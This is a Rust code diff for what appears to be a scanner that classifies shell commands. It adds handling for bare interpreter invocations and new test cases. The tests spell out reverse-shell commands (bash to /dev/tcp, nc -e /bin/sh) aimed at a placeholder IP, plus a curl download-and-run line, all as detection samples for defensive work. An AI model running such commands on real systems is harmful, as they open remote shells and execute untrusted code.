@@ -18,8 +18,6 @@ pub(crate) struct ActTable {
     runner_rows: Vec<Runner>,
     /// Calls that run a text as code, by row.
     pub(crate) runners: Matches<usize>,
-    /// Names of which a file has one that could get code from elsewhere or decode it.
-    pub(crate) needs: Vec<String>,
     writer_rows: Vec<Writer>,
     /// Calls that write files, by row.
     pub(crate) writers: Matches<usize>,
@@ -59,6 +57,9 @@ struct Deed {
     words: Vec<String>,
     #[serde(default)]
     flags: Vec<String>,
+    /// Whether it is given neither a file nor code.
+    #[serde(default)]
+    bare: bool,
     #[serde(default)]
     text: Vec<String>,
     #[serde(default)]
@@ -70,7 +71,6 @@ struct Deed {
 #[derive(Debug, Deserialize)]
 #[serde(deny_unknown_fields)]
 struct Needs {
-    names: Vec<String>,
     decoders: Vec<String>,
 }
 
@@ -128,6 +128,9 @@ const TELLING_NAME: usize = 7;
 /// The class of a file of another package.
 pub(crate) const OTHER_PACKAGE: &str = "other-package";
 
+/// Options behind which code or a module stands.
+const TAKING_CODE: [&str; 8] = ["-c", "-e", "-m", "-p", "-n", "-ne", "--eval", "--print"];
+
 /// The class of functions of wallets.
 const WALLET: &str = "wallet";
 
@@ -176,7 +179,6 @@ impl ActTable {
             deeds: written.deed,
             runner_rows: written.runner,
             runners,
-            needs: written.needs.names,
             writer_rows: written.writer,
             place_words: automaton(&place_words),
             place_needs,
@@ -229,11 +231,13 @@ impl ActTable {
     /// What a command is, by its program, its words, its text, and the programs before it in a pipe.
     pub(crate) fn classes_of(&self, program: &str, words: &[String], text: &str, before: &[&str]) -> Vec<String> {
         let text = text.to_ascii_lowercase();
+        let is_bare = || words.iter().all(|word| word.starts_with('-') && !TAKING_CODE.contains(&word.as_str()));
         let holds = |deed: &&Deed| {
             let has_word = |word: &String| words.contains(word);
             (deed.programs.is_empty() || deed.programs.iter().any(|name| name == program))
                 && deed.words.iter().all(has_word)
                 && (deed.flags.is_empty() || deed.flags.iter().any(has_word))
+                && (!deed.bare || is_bare())
                 && deed.text.iter().all(|piece| text.contains(piece.as_str()))
                 && (deed.any_text.is_empty() || deed.any_text.iter().any(|piece| text.contains(piece.as_str())))
                 && (deed.before.is_empty() || deed.before.iter().any(|name| before.contains(&name.as_str())))
@@ -306,6 +310,12 @@ mod tests {
         assert_eq!(classes("bash", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1", &[]), ["reverse-shell"]);
         assert_eq!(classes("nc", "nc -e /bin/sh 198.51.100.7 443", &[]), ["reverse-shell"]);
         assert_eq!(classes("sh", "sh", &["curl"]), ["download-and-run"]);
+        assert_eq!(classes("python3", "python3 -", &["curl"]), ["download-and-run"]);
+        assert_eq!(classes("python3", "python3 -m json.tool", &["curl"]), [""; 0]);
+        assert_eq!(classes("bash", "bash -c 'cat < /dev/null > /dev/tcp/localhost/5432'", &[]), [""; 0]);
+        assert_eq!(classes("bash", "bash -c 'VERSION=$(curl -s https://versions.example/) make'", &[]), [""; 0]);
+        assert_eq!(classes("bash", "bash -c \"$(curl -fsSL https://get.example/a.sh)\"", &[]), ["download-and-run"]);
+        assert_eq!(classes("crontab", "crontab -l", &[]), [""; 0]);
         assert_eq!(classes("npm", "npm publish --access public", &[]), ["publish"]);
         assert_eq!(classes("npm", "npm run build", &[]), [""; 0]);
         assert_eq!(classes("git", "git pull", &[]), [""; 0]);
